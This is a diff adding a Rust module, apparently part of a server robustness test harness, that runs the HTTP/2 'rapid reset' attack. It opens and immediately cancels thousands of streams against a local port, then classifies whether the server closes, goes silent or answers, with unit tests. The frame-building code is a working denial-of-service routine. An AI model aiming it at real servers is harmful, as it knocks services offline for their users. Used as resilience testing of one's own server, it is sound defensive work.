@@ -1,0 +1,123 @@
+//! HTTP/2 rapid reset: streams that are opened and reset at once, thousands of them.
+
+use crate::{
+    exchange::{Piece, Status, connect},
+    run::now,
+};
+use std::{
+    io::{ErrorKind, Read, Write},
+    time::Duration,
+};
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+/// How many streams one write holds.
+const TOGETHER: u32 = 100;
+
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const GOAWAY: u8 = 7;
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
+    let mut frame = length[1..].to_vec();
+    frame.extend_from_slice(&[kind, flags]);
+    frame.extend_from_slice(&stream.to_be_bytes());
+    frame.extend_from_slice(payload);
+    frame
+}
+
+/// The frames: preface, settings, then `HEADERS` and `RST_STREAM` for each stream.
+fn pieces(count: usize) -> impl Iterator<Item = Piece> {
+    // POST, http, `/mcp` and a host, from the static table and two literals.
+    let mut block = vec![0x83, 0x86, 0x04, 4];
+    block.extend_from_slice(b"/mcp");
+    block.extend_from_slice(&[0x01, 9]);
+    block.extend_from_slice(b"127.0.0.1");
+    let start = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, &[])].concat();
+    let streams = u32::try_from(count).unwrap_or(u32::MAX / 4);
+    let batches = (0..streams.div_ceil(TOGETHER)).map(move |batch| {
+        let numbers = batch * TOGETHER..((batch + 1) * TOGETHER).min(streams);
+        let frames = numbers.flat_map(|number| {
+            let stream = number * 2 + 1;
+            // END_HEADERS; CANCEL.
+            let mut both = frame(HEADERS, 4, stream, &block);
+            both.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
+            both
+        });
+        (frames.collect(), Duration::ZERO)
+    });
+    std::iter::once((start, Duration::ZERO)).chain(batches)
+}
+
+/// Opens and resets the streams; a server may close the connection or bear it.
+pub(super) fn rapid_reset(port: u16, count: usize, limit: Duration) -> Status {
+    let Ok(mut stream) = connect(port) else { return Status::Closed };
+    let end = now() + limit;
+    // A server that does not read must not hold us up.
+    if stream.set_write_timeout(Some(limit)).is_err() {
+        return Status::Closed;
+    }
+    for (bytes, _) in pieces(count) {
+        match stream.write_all(&bytes) {
+            Ok(()) => {}
+            Err(error) if matches!(error.kind(), ErrorKind::TimedOut | ErrorKind::WouldBlock) => {
+                return Status::Silent;
+            }
+            Err(_) => return Status::Closed,
+        }
+    }
+    let mut seen = Vec::new();
+    while let Some(left) = end.checked_duration_since(now()).filter(|left| !left.is_zero()) {
+        let mut buffer = [0; 4096];
+        let quiet = left.min(Duration::from_secs(2));
+        match stream.set_read_timeout(Some(quiet)).and_then(|()| stream.read(&mut buffer)) {
+            Ok(0) => return Status::Closed,
+            Ok(count) => seen.extend_from_slice(&buffer[..count]),
+            Err(error) if matches!(error.kind(), ErrorKind::TimedOut | ErrorKind::WouldBlock) => {
+                // Quiet and open: it has borne it, if it speaks HTTP/2 at all.
+                return if seen.is_empty() { Status::Silent } else { spoken(&seen) };
+            }
+            Err(_) => return Status::Closed,
+        }
+    }
+    spoken(&seen)
+}
+
+/// What a server that is still there has said.
+fn spoken(mut bytes: &[u8]) -> Status {
+    if let Some(status) = bytes.strip_prefix(b"HTTP/1.1 ").and_then(|rest| rest.get(..3)) {
+        let status = std::str::from_utf8(status).ok().and_then(|status| status.parse().ok());
+        return status.map_or(Status::Closed, Status::Of);
+    }
+    while bytes.len() >= 9 {
+        if bytes[3] == GOAWAY {
+            return Status::Closed;
+        }
+        let length = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]);
+        let next = usize::try_from(length).unwrap_or(usize::MAX).saturating_add(9);
+        bytes = bytes.get(next..).unwrap_or_default();
+    }
+    Status::Of(200)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn each_stream_is_opened_and_reset() {
+        let all: Vec<u8> = pieces(250).flat_map(|(bytes, _)| bytes).collect();
+        let streams = all.len() - PREFACE.len() - 9;
+        assert_eq!(streams % 250, 0);
+        assert_eq!(frame(RST_STREAM, 0, 3, &[1]), [0, 0, 1, 3, 0, 0, 0, 0, 3, 1]);
+    }
+
+    #[test]
+    fn what_is_said_is_read() {
+        assert_eq!(spoken(b"HTTP/1.1 400 Bad"), Status::Of(400));
+        let quiet = frame(SETTINGS, 0, 0, &[]);
+        assert_eq!(spoken(&quiet), Status::Of(200));
+        assert_eq!(spoken(&[quiet, frame(GOAWAY, 0, 0, &[0; 8])].concat()), Status::Closed);
+    }
+}
